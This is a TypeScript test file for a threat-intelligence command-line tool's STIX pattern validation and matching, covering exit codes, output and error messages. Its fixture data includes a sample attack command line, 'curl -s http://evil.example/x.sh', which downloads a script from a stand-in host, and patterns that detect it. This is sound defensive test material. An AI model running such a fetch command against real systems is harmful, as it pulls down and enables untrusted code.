// `daemoneye intel validate` and `daemoneye intel match`, run as a user would: exit 0/1/2, output,
// and errors with a code, a column and a caret.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cli } from './cli-helpers.ts';

const dir = mkdtempSync(join(tmpdir(), 'de-intel-cli-'));
const observed = join(dir, 'observed.json');
writeFileSync(observed, JSON.stringify([
  { type: 'bundle', id: 'bundle--1', objects: [
    { type: 'observed-data', id: 'observed-data--1', spec_version: '2.1', number_observed: 1, first_observed: '2026-11-28T10:00:00Z', last_observed: '2026-11-28T10:00:00Z', object_refs: ['process--1', 'file--1'] },
    { type: 'process', id: 'process--1', name: 'curl', command_line: 'curl -s http://evil.example/x.sh', image_ref: 'file--1' },
    { type: 'file', id: 'file--1', name: 'curl', hashes: { 'SHA-256': 'aa'.repeat(32) } },
  ] },
  { type: 'bundle', id: 'bundle--2', objects: [
    { type: 'observed-data', id: 'observed-data--2', spec_version: '2.1', number_observed: 1, first_observed: '2026-11-28T10:00:30Z', last_observed: '2026-11-28T10:00:30Z', object_refs: ['file--2'] },
    { type: 'file', id: 'file--2', name: 'x.sh' },
  ] },
]));

test('intel match prints true and exits 0 on a match, with --verbose the observed-data ids', () => {
  const r = cli(['intel', 'match', "[process:image_ref.hashes.'SHA-256' = '" + 'aa'.repeat(32) + "']", '--observed', observed, '--verbose']);
  assert.equal(r.status, 0, r.stderr);
  assert.equal(r.stdout, 'true\n  observed-data--1\n');
});

test('intel match evaluates FOLLOWEDBY ... WITHIN over the observations', () => {
  const hit = cli(['intel', 'match', "([process:name = 'curl'] FOLLOWEDBY [file:name = 'x.sh']) WITHIN 60 SECONDS", '--observed', observed]);
  assert.equal(hit.status, 0, hit.stderr);
  assert.equal(hit.stdout, 'true\n');
  const miss = cli(['intel', 'match', "([process:name = 'curl'] FOLLOWEDBY [file:name = 'x.sh']) WITHIN 10 SECONDS", '--observed', observed]);
  assert.equal(miss.status, 1);
  assert.equal(miss.stdout, 'false\n');
});

test('intel match exits 2 with the error for an invalid pattern or invalid data', () => {
  const badPattern = cli(['intel', 'match', "[process:name = curl]", '--observed', observed]);
  assert.equal(badPattern.status, 2);
  assert.match(badPattern.stderr, /DE_STIX_PATTERN: column 17: expected a literal/);
  assert.match(badPattern.stderr, /\n {18}\^\n/);
  const notJson = join(dir, 'bad.json');
  writeFileSync(notJson, '{"type": "bundle", ');
  const badData = cli(['intel', 'match', "[process:name = 'curl']", '--observed', notJson]);
  assert.equal(badData.status, 2);
  assert.match(badData.stderr, /DE_STIX_OBSERVED_DATA: .* is not valid JSON/);
  const missing = cli(['intel', 'match', "[process:name = 'curl']", '--observed', join(dir, 'nope.json')]);
  assert.equal(missing.status, 2);
  assert.match(missing.stderr, /DE_STIX_OBSERVED_DATA: cannot read/);
});

test('intel validate: valid, grammar errors, hash formats, impossible dates', () => {
  const ok = cli(['intel', 'validate', "[ipv4-addr:value ISSUBSET '198.51.100.0/24'] REPEATS 5 TIMES WITHIN 600 SECONDS"]);
  assert.equal(ok.status, 0, ok.stderr);
  assert.equal(ok.stdout, 'valid\n');
  const hash = cli(['intel', 'validate', "[file:hashes.'SHA-256' = 'f00']"]);
  assert.equal(hash.status, 2);
  assert.match(hash.stderr, /DE_STIX_PATTERN_INVALID: column 26: "f00" is not a valid SHA-256 hash/);
  const keyword = cli(['intel', 'validate', '[foo:bar = 1] within 2 seconds']);
  assert.equal(keyword.status, 2);
  assert.match(keyword.stderr, /keywords are upper case: WITHIN/);
  const feb30 = "[x:created = t'2024-02-30T12:00:00Z']";
  assert.equal(cli(['intel', 'validate', feb30]).status, 2);
  // The reference validator accepts it (grammar only); --reference reproduces that.
  assert.equal(cli(['intel', 'validate', '--reference', feb30]).status, 0);
});

test('intel validate --help shows examples', () => {
  const r = cli(['intel', 'validate', '--help']);
  assert.equal(r.status, 0);
  assert.match(r.stdout, /Examples:/);
});
